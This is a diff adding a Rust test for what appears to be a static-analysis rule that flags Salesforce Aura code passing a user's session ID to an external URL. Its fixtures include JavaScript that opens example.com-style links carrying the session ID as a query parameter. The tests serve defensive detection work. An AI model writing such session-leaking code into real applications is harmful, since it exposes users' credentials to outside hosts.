@@ -367,6 +367,45 @@ mod tests {
         assert!(hits[0].message.contains("`hooks.example.com`"), "{}", hits[0].message);
     }
 
+    /// An Aura bundle whose helper calls a wrapper component with a controller action name
+    /// and a callback (a public org's Conga launcher).
+    fn aura_wrapper(action: &str, callback: &str) -> Vec<(&'static str, String)> {
+        vec![
+            (
+                CLASS,
+                "public with sharing class Auth {\n  @AuraEnabled public static String sid() { return UserInfo.getSessionId(); }\n  @AuraEnabled public static String name() { return UserInfo.getName(); }\n}\n".to_string(),
+            ),
+            (
+                "force-app/main/default/aura/Launch/Launch.cmp",
+                "<aura:component controller=\"Auth\">\n<c:ApexService aura:id=\"service\"/>\n</aura:component>\n".to_string(),
+            ),
+            (
+                "force-app/main/default/aura/Launch/LaunchHelper.js",
+                format!(
+                    "({{\n  go: function (component, helper) {{\n    component.find('service').callApex(component, helper, '{action}', {{}}, {callback});\n  }},\n  done: function (component, value, helper) {{\n    window.open('https://composer.example.com/?s=' + value);\n  }}\n}})"
+                ),
+            ),
+        ]
+    }
+
+    #[test]
+    fn an_aura_wrapper_hands_the_action_result_to_its_callback() {
+        cases(
+            "session-id-to-external",
+            &[
+                aura_wrapper("c.name", "this.done"),
+                aura_wrapper("c.sid", "function (c) {}"),
+            ],
+            &[
+                aura_wrapper("c.sid", "this.done"),
+                aura_wrapper(
+                    "c.sid",
+                    "function (component, r) { window.open('https://x.example/?s=' + r); }",
+                ),
+            ],
+        );
+    }
+
     #[test]
     fn javascript_comments_suppress() {
         let files = lwc(
